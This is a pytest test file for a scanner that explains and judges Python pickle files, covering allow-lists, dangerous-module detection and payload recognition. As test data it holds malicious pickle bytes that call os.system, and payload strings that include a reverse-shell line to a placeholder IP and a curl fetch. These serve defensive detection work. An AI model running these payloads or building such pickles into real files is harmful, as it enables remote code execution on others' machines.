"""What a pickle would do, told to people, and the lists behind the verdict."""

import pickle
from pathlib import Path

import pytest

from seatrial.scan.blob import BytesBlob
from seatrial.scan.limits import Budget, Limits
from seatrial.scan.part import Part, Settings
from seatrial.scan.pickles.allowed import read_list, role_of
from seatrial.scan.pickles.dangers import danger_of, looks_like_payload
from seatrial.scan.pickles.explain import calls, unlisted
from seatrial.scan.pickles.format import pickle_at
from seatrial.scan.pickles.names import modern, plain_look

LISTS = Path(__file__).parents[2] / "src" / "seatrial" / "scan" / "pickles" / "lists"


def part_of(data, allowed=()):
    """A Part of some bytes that nothing looks into."""
    return Part(BytesBlob(data), "x", lambda part: iter(()), Budget(Limits()), Settings(allowed=frozenset(allowed)))


def test_calls_are_told_in_order():
    """Each call comes with its place, as an expression, and with what is thought of it."""
    data = b"\x80\x02ccollections\nOrderedDict\n)Rcos\nsystem\nX\x02\0\0\0id\x85Rcmypkg\nModel\n)\x81."
    found = [(each.expression, each.verdict) for each in calls(part_of(data))]
    assert found == [("collections.OrderedDict()", None), ("os.system('id')", "attack"), ("mypkg.Model()", "review")]


def test_calls_up_to_a_break_are_told():
    """A stream that breaks is told as far as it would be carried out."""
    assert [each.offset for each in calls(part_of(b"\x80\x02ccollections\nOrderedDict\n)R\xff"))] == [28]


def test_long_arguments_are_cut():
    """Expressions stay readable however long or deep the arguments are."""
    thing = b"(lp0\n" + b"(lp0\na" * 50 + b"."
    deep = b"\x80\x02ccollections\nOrderedDict\n]" + b"\x85" * 200 + b"R."
    assert list(calls(part_of(thing))) == []
    (call,) = calls(part_of(deep))
    assert len(call.expression) < 100
    (call,) = calls(part_of(b"\x80\x02cmypkg\nMake\nX\x10\x27\0\0" + b"x" * 10_000 + b"\x85R."))
    assert len(call.expression) < 150


def test_unlisted_names_what_only_needs_a_person():
    """The globals that made a file a matter for review, sorted; nothing dangerous is proposed."""
    data = b"\x80\x02cmypkg.b\nB\n0cmypkg.a\nA\n0cos\nsystem\n0ccollections\nOrderedDict\n."
    assert unlisted(part_of(data)) == ("mypkg.a.A", "mypkg.b.B")
    assert unlisted(part_of(data, ["mypkg.a.A"])) == ("mypkg.b.B",)


def test_a_pickle_is_found_at_an_offset():
    """Containers can ask whether a pickle begins somewhere, with a header or without."""
    assert pickle_at(BytesBlob(b"xyz" + pickle.dumps([1], 4)), 3)
    assert pickle_at(BytesBlob(b"xyz" + pickle.dumps([1], 0)), 3)
    assert not pickle_at(BytesBlob(b"xyz" + pickle.dumps([1], 4)), 0)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (("__builtin__", "unicode"), ("builtins", "str")),
        (("__builtin__", "unicode.lower"), ("builtins", "str.lower")),
        (("copy_reg", "_reconstructor"), ("copyreg", "_reconstructor")),
        (("exceptions", "ValueError"), ("builtins", "ValueError")),
        (("cPickle", "loads"), ("pickle", "loads")),
        (("numpy", "ndarray"), ("numpy", "ndarray")),
    ],
)
def test_names_of_python_2_are_those_of_today(old, new):
    """Python 2's modules and names are judged as what Python 3's unpickler makes of them."""
    assert modern(*old) == new


def test_letters_that_look_like_others_are_seen():
    """Cyrillic and full-width letters are read as the ASCII letters that they imitate."""
    assert (plain_look("ѕуѕtеm"), plain_look("ｏｓ"), plain_look("Größe")) == ("system", "os", "Größe")


def test_roles_are_read():
    """Lines give roles to names, the first stands, and moved modules answer under their old names."""
    listed = read_list("# remark\na.new data Thing Other\na.new call Thing Maker\n= a.old a.new\n")
    assert listed.role_of("a.new", "Thing") == "data"
    assert listed.role_of("a.old", "Maker") == "call"
    assert listed.role_of("a.old.deep", "Maker") is None


@pytest.mark.parametrize("name", sorted(path.name for path in LISTS.glob("*.txt") if "hand" not in path.name))
def test_generated_lists_hold_nothing_dangerous(name):
    """Nothing that may be made or called by a generated list is known to be dangerous."""
    listed = read_list((LISTS / name).read_text("utf-8"))
    made = [
        f"{module}.{each}"
        for module, roles in listed.roles.items()
        for each, role in roles.items()
        if role in ("call", "data") and danger_of(module, each)
    ]
    assert listed.roles
    assert set(made) <= {"inspect.Signature", "inspect.Parameter", "torch._C.Generator"}


@pytest.mark.parametrize(
    ("module", "name", "role"),
    [
        ("builtins", "dict", "call"),
        ("numpy", "ndarray", "call"),
        ("numpy.core.multiarray", "_reconstruct", "ref"),
        ("sklearn.linear_model._logistic", "LogisticRegression", "data"),
        ("sklearn.linear_model.logistic", "LogisticRegression", "data"),
        ("torch.nn.modules.linear", "Linear", "data"),
        ("__torch__.mine", "Net", "call"),
        ("os", "system", None),
        ("sklearn", "nothing", None),
        ("dangerous", "x", None),
        ("../lists/numpy", "ndarray", None),
        ("", "", None),
    ],
)
def test_a_role_is_that_of_the_exact_name(module, name, role):
    """Only exact names have a role, whatever module they claim."""
    assert role_of(module, name) == role


@pytest.mark.parametrize(
    ("module", "name", "dangerous"),
    [
        ("os.path", "join", True),
        ("osmodule", "join", False),
        ("logging", "os.system", True),
        ("mypkg", "Outer.Inner", False),
        ("mypkg", "Outer.__class__", True),
        ("mypkg", "system", True),
        ("__main__", "Model", False),
        ("torch.nn", "Linear", False),
        ("asyncio", "run", True),
    ],
)
def test_a_danger_is_found_by_module_and_name(module, name, dangerous):
    """Modules count with all below them, names by their way through modules; others are not suspected."""
    assert (danger_of(module, name) is not None) == dangerous


@pytest.mark.parametrize(
    "text", ["import os", "os.system('x')", "curl -s http://a", "bash -i >& /dev/tcp/1.2.3.4/9", "eval(x)"]
)
def test_a_payload_reads_like_one(text):
    """Commands and code are recognised in texts."""
    assert looks_like_payload(f"a {text}")


@pytest.mark.parametrize(
    "text", ["an evaluation (mean)", "the import of goods", "a curly brace", "posix paths", "retrieval (fast)"]
)
def test_ordinary_text_is_no_payload(text):
    """Words that only begin like code are not taken for it."""
    assert looks_like_payload(text) is None
